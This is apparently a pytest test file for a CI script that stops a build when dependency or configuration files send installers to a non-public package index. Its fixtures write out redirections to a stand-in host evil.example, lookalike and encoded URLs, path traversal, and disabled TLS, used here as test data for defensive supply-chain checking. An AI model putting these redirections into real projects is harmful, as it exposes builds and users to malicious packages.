"""A source whose installer would use another package index stops the build, with the file and the line."""

from __future__ import annotations

import json
import runpy
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest

from cicd_templates.builds.scripts.lock_files import LOCKS
from tests.conftest import ROOT

SCRIPT = ROOT / "src/cicd_templates/builds/scripts/package_indexes.py"
PYPI, FILES_HOST, NPM, GEMS, GO = (
    f"{name}.org" for name in ("pypi", "files.pythonhosted", "registry.npmjs", "rubygems", "proxy.golang")
)
PYTHON, FILES, NODE = (f"https://{host}" for host in (PYPI, FILES_HOST, NPM))
CRATES_INDEX = ".".join(("crates", "io-index"))
CRATES = f"registry+https://github.com/rust-lang/{CRATES_INDEX}"
EVIL = "https://evil.example/x"
MANAGER = f"pnpm@9.12.0+sha512.{'0a' * 64}"
HASH = "--hash=sha256:" + "a" * 64


def problems(files: Mapping[str, str | bytes], folder: Path, monkeypatch: pytest.MonkeyPatch, *hosts: str) -> list[str]:
    """Return what the script prints about a source."""
    for name, content in files.items():
        path = folder / "source" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    monkeypatch.setattr(sys, "argv", ["package_indexes.py", str(folder / "source"), "shop", *hosts])
    try:
        runpy.run_path(str(SCRIPT), run_name="__main__")
    except SystemExit as error:
        return str(error.code).splitlines()
    return []


def npm_lock(**entry: object) -> str:
    return json.dumps({"packages": {"": {"name": "app"}, "node_modules/a": {"version": "1.0.0", **entry}}}, indent=1)


OTHERS = [
    # Requirements files of pip, also of a second name.
    ("dev-requirements.txt", f"\n--index-url {EVIL}\na==1 {HASH}\n", 2),
    ("requirements.txt", f"a==1 {HASH}\n--extra-index-url={EVIL}\n", 2),
    ("requirements/base.txt", f"-i {EVIL}", 1),
    ("x/constraints.txt", f"-i{EVIL}", 1),
    ("requirements.txt", f"a==1 \\\n  {HASH} # https://example.com\n--find-links {EVIL}", 3),
    ("requirements.txt", "-f ./wheels", 1),
    ("requirements.txt", "--find-links=file:///tmp/wheels", 1),
    ("requirements.txt", f"--pypi-url {EVIL}", 1),
    ("requirements.txt", f"--index {EVIL}", 1),
    ("requirements.txt", f"--trusted-host {PYPI}", 1),
    ("requirements.txt", f"a @ {EVIL}/a-1-py3-none-any.whl", 1),
    ("requirements.txt", f"-r {EVIL}", 1),
    ("requirements.txt", "-r more.txt", 1),
    ("requirements.txt", "-r ../requirements.txt", 1),
    ("requirements.txt", "-r x/../requirements.txt", 1),
    ("requirements.txt", "-r Dockerfile", 1),
    ("requirements/prod.txt", "-r ../base.txt", 1),
    ("requirements/prod.txt", "-c ../../requirements/base.txt", 1),
    ("requirements/prod.txt", "-r linked/../base.txt", 1),
    # pip reads every option of a line.
    ("requirements.txt", f"--only-binary :all: --index-url {EVIL}", 1),
    ("requirements.txt", f"--only-binary=:all: -i {EVIL}", 1),
    ("requirements.txt", f"a==1\n--no-binary x -i {EVIL}", 2),
    ("requirements.txt", f"--use-feature truststore \\\n  --extra-index-url={EVIL}", 1),
    ("requirements.txt", "--only-binary :all: -i ${INDEX}", 1),
    ("requirements.txt", "--no-binary x -r more.txt", 1),
    ("requirements.txt", "--use-feature=x --find-links wheels", 1),
    ("requirements.txt", f"a==1\n--only-binary x --trusted-host {PYPI}", 2),
    ("requirements.txt", "a @ ${PLACE}", 1),
    ("requirements.txt", f"-i {PYTHON}/simple --extra-index-url {EVIL}", 1),
    ("requirements.txt", "-i https://${HOST}/simple", 1),
    ("requirements.txt", f"a==1\n# x \\\n-i {EVIL}", 2),
    ("requirements.txt", "a==1\f", 1),
    # Addresses that only look like the public index.
    ("requirements.txt", f"-i http://{PYPI}/simple", 1),
    ("requirements.txt", f"-i https://{PYPI}.evil.example/simple", 1),
    ("requirements.txt", f"-i https://{PYPI}@evil.example/simple", 1),
    ("requirements.txt", f"-i https://user:pass@{PYPI}/simple", 1),
    ("requirements.txt", f"-i https://{PYPI}:8443/simple", 1),
    ("requirements.txt", f"-i https://evil.example\\@{PYPI}/simple", 1),
    ("requirements.txt", "-i https://PyPI.org/simple", 1),
    ("requirements.txt", f"-i https://{PYPI}./simple", 1),
    ("requirements.txt", "-i //evil.example/simple", 1),
    # Configuration of pip.
    ("pip.conf", f"[global]\nindex-url = {EVIL}", 2),
    (".config/pip/pip.conf", f"[install]\nfind-links =\n    {EVIL}", 3),
    ("pip.ini", f"[global]\nextra_index_url={EVIL}", 2),
    ("pip.conf", f"[global]\n\ntrusted-host = {PYPI}", 3),
    ("pip.conf", "[global]\nproxy = evil.example:3128", 2),
    ("deploy/pip/other.conf", f"index-url = {EVIL}", 1),
    # Projects and lock files of Python.
    ("pyproject.toml", f'[[tool.uv.index]]\nname = "x"\nurl = "{EVIL}"', 3),
    ("pyproject.toml", f'[tool.uv]\nindex-url = """\n{EVIL}"""', 3),
    ("pyproject.toml", f'[tool]\nuv.index-url = "{EVIL}"', 2),
    ("pyproject.toml", f'[tool]\n"uv".index-url = "{EVIL}"', 2),
    ("pyproject.toml", f'tool.uv.index = [{{ url = "{EVIL}" }}]', 1),
    ("pyproject.toml", f'[tool.uv]\nx = """\n[project.urls]\n"""\nextra-index-url = ["{EVIL}"]', 5),
    ("pyproject.toml", f'[tool.uv.sources]\nurls = {{ url = "{EVIL}" }}', 2),
    ("pyproject.toml", f'[tool.uv]\nallow-insecure-host = ["{PYPI}"]', 2),
    ("pyproject.toml", '[tool.uv]\nindex-url = "\\u0068ttps://evil.example"', 2),
    ("pyproject.toml", f'[project]\noptional-dependencies = {{\n urls = ["a @ {EVIL}"]\n}}', 3),
    ("pyproject.toml", f'[project]\n"urls" = "{EVIL}"', 2),
    ("pyproject.toml", f'["project"]\nurls = "{EVIL}"', 2),
    ("pyproject.toml", f'[project]\ndependencies = [\n  "a @ {EVIL}",\n]', 3),
    ("pyproject.toml", f'[[tool.poetry.source]]\nname = "x"\nurl = "{EVIL}"', 3),
    ("uv.toml", f'[[index]]\nurl = "{EVIL}"', 2),
    ("Pipfile", f'[[source]]\nurl = "{EVIL}"', 2),
    ("Pipfile.lock", '{"_meta": {"sources": [\n{"url": "https:\\/\\/evil.example"}]}}', 2),
    ("uv.lock", f'[[package]]\nsource = {{ registry = "{EVIL}" }}', 2),
    ("uv.lock", '[[package]]\nsource = { registry = "wheels" }', 2),
    ("uv.lock", '[[distribution]]\nsource = { git = "ssh://git@example.com/a" }', 2),
    ("uv.lock", f'wheels = [\n  {{ url = "{EVIL}/a-1-py3-none-any.whl" }},\n]', 2),
    ("uv.lock", 'wheels = [{ url = "ht\\u0074ps://evil.example" }]', 1),
    ("poetry.lock", f'[package.source]\ntype = "legacy"\nurl = "{EVIL}"', 3),
    ("pdm.lock", f'url = "{EVIL}"', 1),
    ("pylock.dev.toml", f'index = "{EVIL}"', 1),
    # Node.js.
    (".npmrc", f"registry={EVIL}", 1),
    (".npmrc", f"; x\n@scope:registry={EVIL}", 2),
    (".npmrc", "registry=evil.example", 1),
    (".npmrc", "strict-ssl=false", 1),
    (".npmrc", "https-proxy=evil.example:1", 1),
    (".yarnrc", f'registry "{EVIL}"', 1),
    (".yarnrc.yml", f'npmRegistryServer: "{EVIL}"', 1),
    ("bunfig.toml", f'[install]\nregistry = "{EVIL}"', 2),
    ("package.json", '{"dependencies": {\n"a": "git+ssh://git@example.com/a.git"}}', 2),
    ("package.json", '{"devDependencies": {\n"a": "github:evil/a"}}', 2),
    ("package.json", f'{{"packageManager":\n"yarn@{EVIL}/yarn.js"}}', 2),
    ("package.json", '{"name": "x",\n"packageManager": "pnpm@10.1.0"}', 2),
    ("package.json", '{"packageManager":\n"yarn@1.22.22+sha1.0123"}', 2),
    ("package.json", f'{{"packageManager": "{MANAGER}",\n"packageManager": "pnpm@10.x"}}', 2),
    ("package.json", '{"devEngines": {"packageManager": [{"name": "pnpm",\n"onFail": "download"}]}}', 2),
    *(
        ("package.json", f'{{"packageManager":\n{json.dumps(value)}}}', 2)
        for value in (
            f"evilpkg@9.1.0+sha512.{'0a' * 64}",
            f"pnpm@9.1.0+sha512.{'0a' * 28}",
            f"yarn@4.1.0+sha224.{'0a' * 64}",
            f"npm@10+sha256.{'0a' * 32}",
            f"pnpm@9.1.0+sha512.{'0a' * 64}\n",
        )
    ),
    ("package.json", '{\n"packageManager": ""}', 2),
    ("package.json", '{\n"packageManager": {"name": "pnpm"}}', 2),
    ("package.json", '{\n"packageManager": null}', 2),
    ("package.json", '{"devEngines": {\n"packageManager": {"name": "pnpm", "version": "9.1.0"}}}', 2),
    ("package.json", '{"devEngines": {\n"packageManager": "pnpm"}}', 2),
    ("package.json", '{"devEngines": {\n"packageManager": [{"onFail": "error"}, {"name": "yarn"}]}}', 2),
    ("package.json", '{"devEngines": {"runtime": {"name": "node",\n"onFail": "download"}}}', 2),
    ("package.json", '{"devEngines": {"runtime": [{"onFail": "warn"}, {"name": "deno",\n"onFail": "download"}]}}', 2),
    ("package.json", '{"devEngines": {"packageManager": {"onFail": "error",\n"onFail": "download"}}}', 2),
    ("package.json", '{"devEngines": {"os": {"name": "x",\n"onFail": true}}}', 2),
    ("package.json", '{"pnpm": {"executionEnv": {\n"nodeVersion": "20.1.0"}}}', 2),
    (".corepack.env", f"COREPACK_NPM_REGISTRY={EVIL}", 1),
    ("package-lock.json", npm_lock(resolved=f"{EVIL}/a-1.0.0.tgz"), 8),
    ("npm-shrinkwrap.json", npm_lock(resolved="https:evil.example/a-1.0.0.tgz"), 8),
    ("package-lock.json", npm_lock(resolved="https:\\\\evil.example\\a-1.0.0.tgz"), 8),
    ("package-lock.json", npm_lock(resolved="ht\ttps://evil.example/a-1.0.0.tgz"), 8),
    ("package-lock.json", npm_lock(resolved="evil/a"), 8),
    ("package-lock.json", '{"dependencies": {"a": [{"version":\n"evil/a#main"}]}}', 2),
    ("package-lock.json", npm_lock(resolved="//evil.example/a-1.0.0.tgz"), 8),
    ("package-lock.json", '{"packages": {"a": {"resolved":\n"https:\\u002f/evil.example"}}}', 1),
    ("package-lock.json", f'{{"dependencies": {{"funding": {{"resolved":\n "{EVIL}"}}}}}}', 2),
    ("package-lock.json", f'{{"dependencies": {{"a": {{"version": "{EVIL}", "version": "1"}}}}}}', 1),
    ("yarn.lock", f'a@^1:\n  resolved "{EVIL}/a.tgz#abc"', 2),
    ("yarn.lock", 'a@^1:\n  resolved "https:\\u002f/evil.example"', 2),
    ("yarn.lock", "  resolution: a@npm:1::__archiveUrl=https%3A%2F%2Fevil.example", 1),
    ("pnpm-lock.yaml", f"  /a/1.0.0:\n    resolution: {{tarball: {EVIL}}}", 2),
    ("pnpm-lock.yaml", "    resolution: {integrity: x, tarball: //evil.example/a.tgz}", 1),
    ("uv.lock", 'wheels = [{ url = "\\\\evil.example/a.whl" }]', 1),
    ("pnpm-lock.yaml", f"    {{deprecated: x, tarball: {EVIL}}}", 1),
    ("pnpm-lock.yaml", f"    deprecated: x, tarball: {EVIL}", 1),
    ("pnpm-lock.yaml", '    tarball: "ht\\\n  tps://evil.example"', 1),
    # Other languages.
    ("composer.lock", f'{{"packages": [{{"name": "a", "dist":\n {{"url": "{EVIL}"}}}}]}}', 2),
    ("composer.lock", '{"packages-dev": [{"source":\n {"url": "https:\\/\\/evil.example"}}]}', 1),
    ("composer.json", f'{{"repositories": [\n{{"type": "composer", "url": "{EVIL}"}}]}}', 2),
    ("Gemfile.lock", f"GEM\n  remote: {EVIL}", 2),
    ("Gemfile", f'source "{EVIL}"', 1),
    ("Gemfile", 'gem "a", github: "evil/a"', 1),
    ("Gemfile", 'gem "a", git: "git@example.com:a/b"', 1),
    ("Cargo.lock", f'source = "sparse+{EVIL}"', 1),
    ("Cargo.lock", f'source = "registry+https://github.com/evil/{CRATES_INDEX}"', 1),
    ("Cargo.lock", f'source = "{CRATES}/../../evil/x"', 1),
    ("Cargo.lock", f'source = "{CRATES}/%2e%2e/evil"', 1),
    ("Cargo.toml", f'[patch.crates-io]\na = {{ git = "{EVIL}" }}', 2),
    (".cargo/config.toml", f'[source.x]\nregistry = "{EVIL}"', 2),
    ("go.env", f"GOPROXY={EVIL},direct", 1),
    ("Dockerfile", f"FROM x\nENV GOPROXY={EVIL}", 2),
    ("Dockerfile", "ENV GOPROXY=direct", 1),
    ("Dockerfile", "ENV GONOSUMDB=evil.example/*", 1),
    ("app.Dockerfile", f"RUN PIP_INDEX_URL='{EVIL}' pip install x", 1),
    ("Dockerfile", f"RUN pip install --extra-index-url {EVIL} x", 1),
    ("Dockerfile", f"FROM x\nRUN pip install -i {EVIL} x", 2),
    ("Dockerfile", f"RUN pip3 install -Ui{EVIL} x", 1),
    ("Dockerfile", f"RUN python -m pip --quiet download x -f '{EVIL}'", 1),
    ("Dockerfile", f"RUN pip install \"x>1;python_version<'4'\" -i {EVIL}", 1),
    ("Dockerfile", f"FROM x\nRUN cd / && pip install x \\\n  # a comment\n\n  -i {EVIL}", 5),
    ("Dockerfile", f"# a comment \\\nRUN pip install -i {EVIL} x", 2),
    ("Dockerfile", f"RUN uv pip install --index-url \\\n {EVIL} x", 1),
    ("Dockerfile", f'RUN ["pip", "install", "-i", "{EVIL}", "x"]', 1),
    ("Dockerfile", f'RUN ["pip", "install", "--index-url", "{EVIL}", "x"]', 1),
    ("Dockerfile", f"RUN pip install --index-url {PYTHON},@evil.example/simple x", 1),
    ("Dockerfile", f"ARG INDEX={EVIL}\nRUN pip install --index-url $INDEX x", 2),
    ("Dockerfile", 'RUN pip install --extra-index-url="${INDEX}" x', 1),
    ("Dockerfile", "RUN pip install -i $INDEX x", 1),
    ("Dockerfile", "RUN npm ci --registry=$REGISTRY", 1),
    ("Dockerfile", f"RUN pip install -i {PYTHON}\\\n@evil.example/simple x", 1),
    ("Dockerfile", f"RUN pip install\\\n --index-url\\\n {EVIL} x", 2),
    ("Dockerfile", f"RUN pip\\\n install -i\\\n {EVIL} x", 2),
]


@pytest.mark.parametrize(("name", "content", "line"), OTHERS)
def test_an_address_of_another_index_stops_the_build_with_its_file_and_line(
    name: str, content: str, line: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found = problems({name: content}, tmp_path, monkeypatch)

    assert [each for each in found if each.startswith(f"'{name}':{line}: ")], found


PLAIN = {
    "requirements.txt": f"# https://example.com\n-i {PYTHON}/simple/\n--require-hashes\n-r dev-requirements.txt\n"
    f"a==1 ; sys_platform == 'linux' \\\n    {HASH} # via -r {EVIL}\n-e ./lib[x]\nb>=2\n",
    "dev-requirements.txt": f"--extra-index-url {PYTHON}:443/simple\n-c requirements/base.txt\n",
    "requirements/base.txt": "--only-binary :all:\n--no-binary=a,b\n--use-feature  fast-deps\n",
    "requirements/prod.txt": "-r base.txt\n-c ./base.txt\n-r ../requirements.txt\n-r ../requirements/dev.txt\n",
    "a/b/requirements.txt": "-r ../requirements.txt\n-r ../../requirements/base.txt\n-c x/constraints.txt\n",
    "notes.txt": EVIL,
    "src/pip/__init__.py": EVIL,
    "pip.conf": f"# {EVIL}\n; {EVIL}\n[global]\nno-binary = :all:\nindex-url = {PYTHON}/simple\n",
    "pyproject.toml": f'# {EVIL}\n[project]\nname = "a" # {EVIL}\nurls.Home = "{EVIL}"\ndescription = """\n{EVIL}"""\n'
    f"urls = {{\n}}\n[project.urls]\nHomepage = '{EVIL}'\n[tool.black]\nx = [\n  \"{EVIL}\"]\n[tool.poetry]\n"
    f'homepage = "{EVIL}"\n[[tool.uv.index]]\nurl = "{PYTHON}/simple"\n',
    "uv.lock": f'[[package]]\nname = "a"\nsource = {{ registry = "{PYTHON}/simple" }}\nwheels = [\n'
    f'  {{ url = "{FILES}/packages/a-1%2Bcpu-py3-none-any.whl", hash = "sha256:1" }}]\n'
    '[[package]]\nsource = { virtual = "." }\n',
    "poetry.lock": f'description = "See {EVIL}"\nmarkers = "python_version < \\"3\\""\n',
    ".npmrc": f"registry={NODE}/\n@a:registry={NODE}\n//registry.example.com/:_authToken=${{TOKEN}}\nsave-exact=true\n",
    "package.json": json.dumps(
        {"homepage": EVIL, "repository": f"git+{EVIL}", "dependencies": {"a": "^1.0.0", "b": "npm:c@1", "d": "file:d"}}
        | {"packageManager": MANAGER, "devEngines": {"packageManager": {"name": "pnpm", "onFail": "error"}}}
    ),
    "a/package.json": json.dumps(
        {
            "packageManager": f"yarn@4.1.0-rc.2+sha224.{'0a' * 28}",
            "pnpm": {"overrides": {"a": "1"}, "executionEnv": {}},
            "devEngines": {
                "packageManager": [{"name": "npm", "onFail": "warn"}, {"name": "yarn", "onFail": "ignore"}],
                "runtime": {"name": "node", "version": ">=20"},
            },
        }
    ),
    "package-lock.json": npm_lock(
        resolved=f"{NODE}/@a/b/-/b-1.0.0.tgz", funding=[{"url": EVIL}], deprecated=f"See {EVIL}", license=EVIL
    ),
    "a/package-lock.json": npm_lock(resolved="packages/a", link=True),
    "yarn.lock": f'a@^1:\n  resolved "{NODE}/a/-/a-1.tgz#abc"\n',
    "pnpm-lock.yaml": f"packages:\n  https@1.0.0:\n    resolution: {{integrity: x}}\n    deprecated: See {EVIL}\n",
    "composer.lock": json.dumps(
        {"packages": [{"dist": {"url": "https://api.github.com/repos/a/b/zipball/1"}, "support": {"x": EVIL}}]}
    ),
    "Gemfile.lock": f"GEM\n  remote: https://{GEMS}/\nPATH\n  remote: .\n",
    "Cargo.lock": f'source = "{CRATES}"\n',
    "Cargo.toml": f'[package]\nhomepage = "{EVIL}"\n[dependencies]\na = "1"\n',
    "Dockerfile": f"# GOPROXY={EVIL}\nENV GOPROXY=https://{GO},direct PIP_NO_INDEX=1 GOSUMDB=off\n"
    "RUN sed -i s/a/b/ x && tool --index $I --find-links ./wheels\n"
    "RUN pip install -f ./wheels -r requirements.txt && rm -f $FILE || grep -i $WORD x\n"
    f"RUN pip\\\n install x ; sed -i 's/$A/b/' x\nRUN cp -i {EVIL} .\n",
}


@pytest.mark.parametrize("name", PLAIN)
def test_public_indexes_and_addresses_for_people_are_accepted(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert problems({name: PLAIN[name]}, tmp_path, monkeypatch) == []


def test_a_host_of_the_configuration_replaces_the_public_ones(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    files = {"requirements.txt": f"-i {EVIL}\n--extra-index-url {PYTHON}/simple"}

    (line,) = problems(files, tmp_path, monkeypatch, "evil.example")

    assert line == (
        f"'requirements.txt':2: `indexes` of [services.shop.build] does not allow 'https://{PYPI}/simple';"
        f' set indexes = ["evil.example", "{PYPI}"]'
    )
    assert problems(files, tmp_path, monkeypatch, "evil.example", PYPI) == []


def test_an_address_that_no_setting_allows_is_refused_with_the_reason(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (line,) = problems({"requirements.txt": f"-i http://{PYPI}\x7f"}, tmp_path, monkeypatch, "x.example")[-1:]

    assert line.endswith("write its address with https, and without a user name or port")


@pytest.mark.parametrize("content", [b"\xff\xfe", b"{", b'{"a": ' + b"[" * 100_000])
def test_a_lock_file_that_cannot_be_read_is_refused(
    content: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (line,) = problems({"package-lock.json": content}, tmp_path, monkeypatch)

    assert line.startswith("'package-lock.json' cannot be read, so its package indexes are unknown: ")


def test_a_link_to_a_requirements_file_is_read_under_its_own_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "source").mkdir()
    (tmp_path / "source/requirements.txt").symlink_to("x.bin")

    assert len(problems({"x.bin": f"-i {EVIL}"}, tmp_path, monkeypatch)) == 1


def test_an_included_file_that_is_not_read_is_refused_with_the_names_that_are(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (line,) = problems({"requirements.txt": "-r more.txt"}, tmp_path, monkeypatch)

    assert line == (
        "'requirements.txt':1: '-r more.txt' includes a file that no check reads; include only *requirements*.txt,"
        " *constraints*.txt and requirements/*.txt of this source"
    )


@pytest.mark.parametrize("name", ["requirements", "app/requirements", ".cargo", "etc/pip"])
@pytest.mark.parametrize("target", ["real", "missing"])
def test_a_link_with_the_name_of_a_folder_whose_files_are_read_is_refused(
    name: str, target: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    link = tmp_path / "source" / name
    link.parent.mkdir(parents=True)
    link.symlink_to(tmp_path / "source" / target)
    files = {f"real/{file}": f"--extra-index-url {EVIL}" for file in ("base.txt", "config.toml", "x.conf")}

    (line,) = problems(files, tmp_path, monkeypatch)

    assert line == f"'{name}' is a link, so no check reads the files in it; replace the link by a folder"


def test_links_that_hide_no_file_are_accepted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "source/bin").mkdir(parents=True)
    (tmp_path / "source/bin/pip").symlink_to("tool")
    (tmp_path / "source/linked").symlink_to("bin")

    assert problems({"bin/tool": "x"}, tmp_path, monkeypatch) == []


def test_only_the_first_problems_are_listed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    found = problems({"requirements.txt": f"-i {EVIL}\n" * 30}, tmp_path, monkeypatch)

    assert (len(found), found[-1]) == (21, "10 more")


def test_every_file_that_counts_as_a_lock_file_is_read_except_those_whose_names_are_addresses(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    files: dict[str, str | bytes] = {lock.replace("*", ""): b"\xff" for lock in LOCKS}
    read = {line.split("'")[1] for line in problems(files, tmp_path, monkeypatch)}

    assert files.keys() - read == {"go.mod", "go.sum"}
